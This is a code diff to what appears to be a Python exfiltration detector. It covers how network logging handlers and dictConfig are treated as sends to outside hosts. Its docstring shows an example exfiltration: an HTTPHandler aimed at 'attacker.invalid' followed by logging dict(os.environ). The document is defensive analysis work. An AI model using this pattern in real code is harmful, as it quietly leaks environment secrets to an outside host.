@@ -3,10 +3,11 @@
 ``logging.handlers.HTTPHandler('attacker.invalid', '/x')`` (or a socket, datagram or mail
 handler), added to a logger, sends every record that logger emits to that host: a
 ``log.warning('%s', dict(os.environ))`` after it is a network send of the environment, with
-no network call written. Making the handler is a network call (to the host it names, as
-``smtplib.SMTP(host)`` is); a record logged after one was made, carrying secret, environment
-or host data, is a send of that data to the same host. ``logging.config.dictConfig`` of a
-literal naming one of these classes makes one too.
+no network call written: a record logged after one was made, carrying secret, environment or
+host data, is a send of that data to the host the handler names. Making the handler sends
+nothing, as making a client or a socket does not (dill makes a ``SocketHandler`` to
+localhost on import as a sample of a type: ADR 0073's first form held it).
+``logging.config.dictConfig`` of a literal naming one of these classes makes one too.
 
 Pure. What it deliberately does not do: match a record to the logger its handler was added
 to (any record logged after a network handler was made counts), read ``fileConfig`` files,
@@ -51,13 +52,11 @@ def configured(interp: Interpreter, node: ast.Call, env: dict[str, Val], when: W
                 texts.append(const)
     if any(t in NETWORK_HANDLERS for t in texts):
         text = " ".join(t for t in texts if t not in NETWORK_HANDLERS)[:4096]
-        made(interp, node.lineno, when, text)
+        made(interp, text)
 
 
-def made(interp: Interpreter, line: int, when: When, text: str) -> None:
+def made(interp: Interpreter, text: str) -> None:
     """A network log handler made (to the host ``text`` names): later records go there."""
-    event = flow.Event("network", "logging.handlers", line, when, text, frozenset())
-    interp.trace.events.append(event)
     interp.log_host = text or "?"
 
 
